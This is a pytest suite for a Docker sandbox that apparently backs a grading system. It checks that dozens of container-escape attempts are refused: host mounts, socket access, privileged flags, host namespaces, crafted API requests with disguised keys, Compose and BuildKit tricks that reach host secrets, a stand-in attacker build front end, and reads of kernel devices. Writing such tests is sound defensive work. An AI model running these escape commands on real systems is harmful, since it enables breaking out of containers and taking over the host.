"""What a submission may try against the dock's engine: each is refused, and the engine goes on."""

from __future__ import annotations

import json
import shlex
from collections.abc import Iterator

import pytest

from graders.dock import Dock, Ran, Settings

pytestmark = pytest.mark.docker

IMAGE = "busybox:1.37"
PADDING = 1 << 20


@pytest.fixture(scope="module")
def dock() -> Iterator[Dock]:
    with Dock.start(Settings(images=("busybox",))) as started:
        yield started


@pytest.fixture
def tell(request, report):
    """Put what became of the attack into the table at the end of the run."""
    return lambda what: report(f"attack on the engine: {request.node.callspec.id:52} {what}")


def docker_run(*options: str) -> str:
    return shlex.join(["docker", "run", "--rm", *options, IMAGE, "true"])


REFUSED = {
    "the whole machine": docker_run("-v", "/:/x"),
    "a folder outside work": docker_run("--mount", "type=bind,source=/etc,target=/x"),
    "a link in work that leads out": f"ln -sfn / /work/out && {docker_run('-v', '/work/out:/x')}",
    "a path below a link that leads out": f"ln -sfn / /work/out && {docker_run('-v', '/work/out/etc:/x')}",
    "a path that climbs out of work": docker_run("-v", "/work/../etc:/x"),
    "a volume that is a folder": "docker volume create -o type=none -o o=bind -o device=/ vol",
    "a volume that is a folder in a mount": docker_run(
        "--mount", "type=volume,source=vol,target=/x,volume-opt=type=none,volume-opt=o=bind,volume-opt=device=/"
    ),
    "a volume of a file system": "docker volume create -o type=ext4 -o device=/dev/vda vol",
    "a strange volume driver": "docker volume create -d rexray vol",
    "the engine's socket": docker_run("-v", "/var/run/docker.sock:/var/run/docker.sock"),
    "a privileged container": docker_run("--privileged"),
    "the user namespace": docker_run("--userns=host"),
    "the network": docker_run("--network", "host"),
    "the processes": docker_run("--pid", "host"),
    "the shared memory": docker_run("--ipc", "host"),
    "the host name": docker_run("--uts", "host"),
    "the cgroups": docker_run("--cgroupns", "host"),
    "a capability": docker_run("--cap-add", "SYS_ADMIN"),
    "all capabilities": docker_run("--cap-add", "ALL"),
    "a device": docker_run("--device", "/dev/kmsg"),
    "a rule for devices": docker_run("--device-cgroup-rule", "a *:* rwm"),
    "no seccomp": docker_run("--security-opt", "seccomp=unconfined"),
    "no masks": docker_run("--security-opt", "systempaths=unconfined"),
    "another cgroup": docker_run("--cgroup-parent", "/"),
    "another runtime": docker_run("--runtime", "io.containerd.runc.v2"),
    "a kernel setting": docker_run("--sysctl", "kernel.shm_rmid_forced=1"),
    "a shared mount": docker_run("-v", "/work:/x:shared"),
    "macvlan": "docker network create -d macvlan -o parent=eth0 m",
    "a bridge of the dock": "docker network create -o com.docker.network.bridge.name=docker0 m",
    "a swarm": "docker swarm init",
    "a privileged exec": (
        f"docker run -d --name exec {IMAGE} sleep 60 && docker exec --privileged exec true; code=$?"
        "; docker rm -f exec; exit $code"
    ),
    "a build in the network of the dock": "printf 'FROM scratch' | DOCKER_BUILDKIT=0 docker build --network host -",
}


@pytest.mark.parametrize("command", REFUSED.values(), ids=REFUSED)
def test_the_policy_refuses_what_reaches_out_of_the_containers(dock, command, tell):
    ran = dock.run("bash", "-c", command)

    assert ran.exit != 0, ran.output
    assert ran.refusals, ran.output
    tell(f"refused by the policy: {ran.refusals[0].rule}")


def post(dock: Dock, path: str, body: str, *options: str) -> str:
    """The engine's answer to a request that a script sends by hand: its status, and its body below."""
    command = ["curl", "-s", "-w", "\n%{http_code}", "-X", "POST", "--unix-socket", "/var/run/docker.sock"]
    command += ["-H", "Content-Type: application/json", *options, "--data-binary", "@/work/body"]
    assert dock.run("bash", "-c", body + " > /work/body").exit == 0
    text, _, status = dock.run(*command, f"http://engine/v1.45{path}").output.rpartition("\n")
    return f"{status}\n{text}"


def written(text: str) -> str:
    return f"printf %s {shlex.quote(text)}"


def ended(ran: Ran) -> str:
    """How an attack came to nothing."""
    return f"refused by the policy: {ran.refusals[0].rule}" if ran.refusals else f"failed with code {ran.exit}"


HOST_CONFIG = '{"Binds": ["/:/x"], "UsernsMode": "host"}'
CRAFTED = {
    "a plugin": ("/plugins/pull?remote=x/y", "[]", ()),
    "a key in other letters": ("/containers/create", f'{{"Image": "{IMAGE}", "hostconfig": {HOST_CONFIG}}}', ()),
    "a key with a long s": ("/containers/create", f'{{"Image": "{IMAGE}", "Ho\u017ftConfig": {HOST_CONFIG}}}', ()),
    "a key twice": (
        "/containers/create",
        f'{{"Image": "{IMAGE}", "HostConfig": {HOST_CONFIG}, "HostConfig": {{}}}}',
        (),
    ),
    "a mount's key twice": (
        "/containers/create",
        f'{{"Image": "{IMAGE}", "HostConfig": {{"Mounts": [{{"Type": "bind", "Source": "/work", "source": "/", '
        '"Target": "/x"}]}}',
        (),
    ),
    "a mount's type in other letters": (
        "/containers/create",
        f'{{"Image": "{IMAGE}", "HostConfig": {{"Mounts": [{{"Type": "tmpfs", "type": "bind", "Source": "/", '
        '"Target": "/x"}]}}',
        (),
    ),
    "a small body in pieces": (
        "/containers/create",
        f'{{"Image": "{IMAGE}", "HostConfig": {HOST_CONFIG}}}',
        ("-H", "Transfer-Encoding: chunked"),
    ),
    "a volume's options in other letters": (
        "/volumes/create",
        '{"Name": "crafted", "driveropts": {"type": "none", "o": "bind", "device": "/"}}',
        (),
    ),
    "a network's driver in other letters": (
        "/networks/create",
        '{"Name": "crafted", "driver": "macvlan", "Options": {"parent": "eth0"}}',
        (),
    ),
}


@pytest.mark.parametrize(("path", "body", "options"), CRAFTED.values(), ids=CRAFTED)
def test_the_policy_refuses_a_request_made_by_hand(dock, path, body, options, tell):
    answer = post(dock, path, written(body), *options)

    assert answer.splitlines()[0] == "403", answer
    tell("refused with status 403")


@pytest.mark.parametrize("options", [(), ("-H", "Transfer-Encoding: chunked")], ids=["whole", "in pieces"])
def test_the_policy_refuses_a_body_over_one_megabyte(dock, options, report):
    start = f'{{"Image": "{IMAGE}", "HostConfig": {HOST_CONFIG}, "Labels": {{"x": "'
    end = written('"}}')
    body = f"{{ {written(start)}; head -c {PADDING} /dev/zero | tr '\\0' x; {end}; }}"

    answer = post(dock, "/containers/create", body, *options)

    assert answer.splitlines()[0] == "403", answer[:500]
    kind = "a body over one megabyte" + (", in pieces" if options else "")
    report(f"attack on the engine: {kind:52} refused with status 403")


def test_a_key_outside_host_config_mounts_nothing(dock):
    answer = post(
        dock, "/containers/create", written(json.dumps({"Image": IMAGE, "Binds": ["/:/x"], "Privileged": True}))
    )
    made = json.loads(answer.partition("\n")[2])["Id"] if answer.startswith("201") else ""
    config = dock.engine.api.inspect_container(made)["HostConfig"] if made else {}

    assert not config.get("Binds")
    assert not config.get("Privileged")


def test_the_network_of_the_dock_is_not_to_be_had_by_its_id(dock):
    ran = dock.run(
        "bash",
        "-c",
        "docker run --rm --network $(docker network ls -q --no-trunc -f name=^host$)"
        f" {IMAGE} readlink /proc/self/ns/net",
    )
    own = b"".join(dock.stream(["readlink", "/proc/1/ns/net"])).decode().strip()

    assert own not in ran.output


def compose(service: str, rest: str = "") -> str:
    """Bring up a Compose file with one service."""
    text = f"services:\n  web:\n    image: {IMAGE}\n    command: sleep 60\n{service}{rest}"
    return (
        f"printf %s {shlex.quote(text)} > compose.yaml && docker compose up -d --build --quiet-pull; code=$?"
        "; docker compose down -v >/dev/null 2>&1; exit $code"
    )


def built(dockerfile: str, *options: str) -> str:
    """Build a Dockerfile with BuildKit, from an empty context."""
    build = shlex.join(["docker", "buildx", "build", "--progress=plain", *options, "b"])
    return f"mkdir -p b && printf %s {shlex.quote(dockerfile)} > b/Dockerfile && {build}"


COMPOSED = {
    "a mount of Compose's long form": compose("    volumes: [{type: bind, source: /etc, target: /x}]\n"),
    "a volume of Compose's with options": compose(
        "    volumes: [v:/x]\n", "volumes: {v: {driver_opts: {type: none, o: bind, device: /}}}\n"
    ),
    "a service of Compose's that is privileged": compose("    privileged: true\n"),
    "a service of Compose's in the dock's processes": compose("    pid: host\n"),
    "a service of Compose's in the dock's network": compose("    network_mode: host\n"),
    "a service of Compose's in the dock's users": compose("    userns_mode: host\n"),
    "a service of Compose's with a capability": compose("    cap_add: [SYS_ADMIN]\n"),
    "a service of Compose's with a device": compose("    devices: [/dev/kmsg:/dev/kmsg]\n"),
    "a service of Compose's without seccomp": compose("    security_opt: [seccomp:unconfined]\n"),
    "a service of Compose's in another cgroup": compose("    cgroup_parent: /\n"),
    "a service of Compose's with another runtime": compose("    runtime: kata\n"),
    "the engine's socket by Compose": compose("    volumes: [/var/run/docker.sock:/var/run/docker.sock]\n"),
    "a configuration of Compose's from the dock": compose(
        "    configs: [{source: c, target: /x}]\n", "configs: {c: {file: /etc/drydock/policy.json}}\n"
    ),
    "a secret of Compose's from the dock": compose(
        "    secrets: [s]\n", "secrets: {s: {file: /etc/drydock/server.key}}\n"
    ),
    "a file of variables that is the dock's": compose("    env_file: /etc/drydock/policy.json\n"),
    "a service that extends a file of the dock's": compose(
        "    extends: {file: /etc/drydock/daemon.json, service: web}\n"
    ),
    "a build of Compose's in the network of the dock": compose(
        "    build: {context: ., network: host, dockerfile_inline: 'FROM busybox:1.37\\nRUN true'}\n"
    ),
    "a build of Compose's with an entitlement": compose(
        "    build: {context: ., privileged: true, dockerfile_inline: 'FROM busybox:1.37\\nRUN true'}\n"
    ),
}


@pytest.mark.parametrize("command", COMPOSED.values(), ids=COMPOSED)
def test_compose_reaches_no_further_than_docker(dock, command, tell):
    ran = dock.run("bash", "-c", command, seconds=30)

    assert ran.exit != 0, ran.output
    assert "policy.json" not in ran.output or "denied" in ran.output, ran.output
    tell(ended(ran))


BUILDS = {
    "a step in the network of the dock": built(f"FROM {IMAGE}\nRUN --network=host true\n"),
    "a step without a sandbox": built(
        f"# syntax=docker/dockerfile:1-labs\nFROM {IMAGE}\nRUN --security=insecure true\n"
    ),
    "a step that asks for an entitlement": built(
        f"FROM {IMAGE}\nRUN --security=insecure true\n", "--allow", "security.insecure"
    ),
    "a build's network": built(f"FROM {IMAGE}\nRUN true\n", "--network", "host"),
    "a front end of a stranger's": built("# syntax=evil.example/front:1\nFROM busybox:1.37\n"),
    "a file of a stranger's": built("FROM scratch\nADD http://192.0.2.1/x /x\n"),
    "a repository as context": "timeout 20 docker buildx build https://192.0.2.1/x.git",
    "an archive as context": "timeout 20 env DOCKER_BUILDKIT=0 docker build http://192.0.2.1/x.tar",
    "a file from outside the context": built(f"FROM {IMAGE}\nCOPY ../../etc/drydock /x\n"),
    "a secret that is the dock's": built(
        f"FROM {IMAGE}\nRUN --mount=type=secret,id=s cat /run/secrets/s\n",
        "--secret",
        "id=s,src=/etc/drydock/server.key",
    ),
    "a context that is the dock's": "docker buildx build -f - /etc/drydock < /dev/null",
}


@pytest.mark.parametrize("command", BUILDS.values(), ids=BUILDS)
def test_a_build_reaches_no_further_than_a_container(dock, command, tell):
    ran = dock.run("bash", "-c", command, seconds=30)

    assert ran.exit != 0, ran.output
    tell(ended(ran))


def test_a_link_in_a_build_context_brings_nothing_of_the_dock(dock):
    dockerfile = f"FROM {IMAGE}\nCOPY . /x\nRUN cat /x/etc/drydock/policy.json\n"
    ran = dock.run("bash", "-c", f"mkdir -p b && ln -sfn /etc b/etc && {built(dockerfile, '--no-cache')}", seconds=30)

    assert ran.exit != 0
    assert "harness" not in ran.output


def test_a_front_end_or_a_name_is_not_asked_for_on_the_network(dock):
    ran = dock.run("bash", "-c", "docker pull 192.0.2.1:5000/x", seconds=30)

    assert ran.exit != 0
    assert ran.seconds < 10


def test_root_in_a_container_is_nobody_of_the_dock(dock):
    seen = dock.run("docker", "run", "--rm", IMAGE, "cat", "/proc/self/uid_map").output.split()

    assert seen[:2] == ["0", "100000"]


READ_IN_A_CONTAINER = {
    "the disk's blocks": "dd if=/dev/vda of=/dev/null bs=1 count=1",
    "a device made by mknod": "mknod /d b 254 0 && dd if=/d of=/dev/null bs=1 count=1",
    "the kernel's log": "dmesg | grep .",
    "the memory": "dd if=/dev/mem of=/dev/null bs=1 count=1",
    "a mount": "mount -t tmpfs none /mnt",
    "the kernel's settings": "echo 1 > /proc/sys/kernel/sysrq",
    "the way a crash is handled": "echo '|/bin/true' > /proc/sys/kernel/core_pattern",
    # A folder is a cgroup where it has such a file; with none in sight nothing would have been tried.
    "the cgroups": "seen=0; for one in /sys/fs/cgroup /sys/fs/cgroup/*; do [ -e $one/cgroup.procs ] || continue; seen=1"
    "; mkdir $one/x && exit 0; done; [ $seen = 0 ] && exit 0; exit 1",
    "the modules": "insmod /x.ko || modprobe dummy",
    "the clock": "date -s 2000-01-01; [ $(date +%Y) = 2000 ]",
    "the host's name": "cat /proc/1/root/etc/drydock/policy.json",
}


@pytest.mark.parametrize("command", READ_IN_A_CONTAINER.values(), ids=READ_IN_A_CONTAINER)
def test_a_container_with_all_that_is_allowed_reaches_nothing_of_the_machine(dock, command, tell):
    allowed = ("--cap-add", "MKNOD", "--cap-add", "SYS_PTRACE", "--cap-add", "NET_ADMIN", "--pid", "container:own")
    dock.run("docker", "run", "-d", "--name", "own", IMAGE, "sleep", "600")

    ran = dock.run("docker", "run", "--rm", *allowed, IMAGE, "sh", "-c", command, seconds=20)

    assert ran.exit not in (0, 125), ran.output
    tell(ended(ran))


def test_at_least_sixty_attacks_are_tried(report):
    tried = len(REFUSED) + len(CRAFTED) + len(COMPOSED) + len(BUILDS) + len(READ_IN_A_CONTAINER)
    report(f"attacks on the engine: {tried} kinds tried")

    assert tried >= 60


def test_all_that_was_tried_left_the_engine_working_and_others_alone(dock):
    with Dock.start(Settings(images=("busybox",))) as other:
        run = ("docker", "run", "--rm", IMAGE, "echo", "fine")

        assert [one.run(*run).output.strip() for one in (dock, other)] == ["fine", "fine"]
        assert other.run("docker", "ps", "-aq").output == ""
